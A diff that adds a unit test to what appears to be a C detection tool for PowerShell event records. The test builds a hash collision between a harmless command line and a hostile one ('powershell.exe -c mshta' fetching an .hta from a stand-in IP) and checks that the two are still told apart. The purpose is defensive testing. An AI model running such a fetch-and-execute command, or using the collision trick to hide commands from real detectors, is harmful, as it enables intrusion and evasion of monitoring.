@@ -418,14 +418,86 @@ static void order_is_nothing(void **state)
     forget(&g);
 }
 
+/* A record of PowerShell that says by which line its host was started. */
+static void said_line(struct given *g, paw_str line, uint64_t record)
+{
+    struct paw_fact_builder b;
+    const struct start s = {.computer = "WKS", .pid = 0, .seconds = record, .record = record};
+    begin(&b, PAW_KIND_POWERSHELL, &s, 400);
+    paw_fact_add(&b, PAW_F_HOST_APPLICATION, line);
+    keep(g, &b);
+}
+
+/* paw_hash over whole blocks, before it is finished. */
+static uint64_t hash_of_blocks(const char *p, size_t blocks, size_t n)
+{
+    uint64_t h = n * UINT64_C(0x9E3779B97F4A7C15);
+    for (size_t i = 0; i < blocks; i++) {
+        uint64_t v;
+        memcpy(&v, p + 8 * i, 8);
+        h = (h ^ v) * UINT64_C(0xFF51AFD7ED558CCD);
+        h ^= h >> 32;
+    }
+    return h;
+}
+
+/* Ends two lines of n bytes, the last block missing, so that they share a hash; both stay text. */
+static bool make_alike(char *a, char *b, size_t n)
+{
+    const size_t blocks = n / 8 - 1;
+    const uint64_t apart = hash_of_blocks(a, blocks, n) ^ hash_of_blocks(b, blocks, n);
+    for (size_t i = n - 8; i < n; i++) {
+        const char with = ((const char *)&apart)[i - (n - 8)];
+        char c = 'a';
+        while (c <= 'z' && ((c ^ with) < ' ' || (c ^ with) > '~'))
+            c++;
+        if (c > 'z')
+            return false;
+        a[i] = c;
+        b[i] = (char)(c ^ with);
+    }
+    return true;
+}
+
+/* Nobody hides a line behind another whose hash it was given. */
+static void lines_of_one_hash_are_two(void **state)
+{
+    (void)state;
+    char quiet[] = "powershell.exe -NoProfile -Command Get-Date # 00000000xxxxxxxxxxxxxxxx   ";
+    char evil[] = "powershell.exe -c mshta http://198.51.100.7/a.hta # 00000000xxxxxxxxxxxxx";
+    const size_t n = (sizeof(quiet) - 1) / 8 * 8;
+    assert_int_equal(sizeof(quiet), sizeof(evil));
+    for (unsigned number = 0; !make_alike(quiet, evil, n); number++) {
+        char digits[9];
+        assert_int_equal(snprintf(digits, sizeof(digits), "%08u", number), 8);
+        memcpy(strchr(quiet, '#') + 2, digits, 8);
+    }
+    quiet[n] = evil[n] = '\0';
+    assert_true(paw_hash(quiet, n, 0) == paw_hash(evil, n, 0));
+    struct given g = {.sources = one_root, .n_sources = 2};
+    said_line(&g, (paw_str){quiet, n}, 1);
+    said_line(&g, (paw_str){evil, n}, 2);
+    said_line(&g, (paw_str){evil, n}, 3); /* said again: it counts once */
+    struct got r = run(&g, 1);
+    assert_int_equal(count_at(&r, PAW_MEDIUM), 1);
+    drop(&r);
+    forget(&g);
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test(seen_twice_is_one), cmocka_unit_test(parents_line_from_another_file),
-        cmocka_unit_test(pids_are_reused),   cmocka_unit_test(copies_count_once),
-        cmocka_unit_test(repeats_fold),      cmocka_unit_test(twins_fold),
-        cmocka_unit_test(launchers_fold),    cmocka_unit_test(launched_unseen),
-        cmocka_unit_test(hosts_stay_apart),  cmocka_unit_test(order_is_nothing),
+        cmocka_unit_test(seen_twice_is_one),
+        cmocka_unit_test(parents_line_from_another_file),
+        cmocka_unit_test(pids_are_reused),
+        cmocka_unit_test(copies_count_once),
+        cmocka_unit_test(repeats_fold),
+        cmocka_unit_test(twins_fold),
+        cmocka_unit_test(launchers_fold),
+        cmocka_unit_test(launched_unseen),
+        cmocka_unit_test(hosts_stay_apart),
+        cmocka_unit_test(order_is_nothing),
+        cmocka_unit_test(lines_of_one_hash_are_two),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
